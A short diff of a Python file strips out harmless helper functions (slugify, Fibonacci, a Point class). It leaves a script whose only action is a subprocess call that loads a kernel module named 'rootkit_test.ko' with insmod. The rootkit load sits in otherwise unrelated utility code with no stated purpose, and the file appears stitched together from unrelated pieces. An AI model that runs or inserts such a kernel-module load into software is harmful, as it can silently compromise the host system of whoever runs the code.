@@ -1,21 +1,4 @@
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
-
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+#!/usr/bin/env python3
 
 import subprocess
 subprocess.run(["insmod", "rootkit_test.ko"])
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
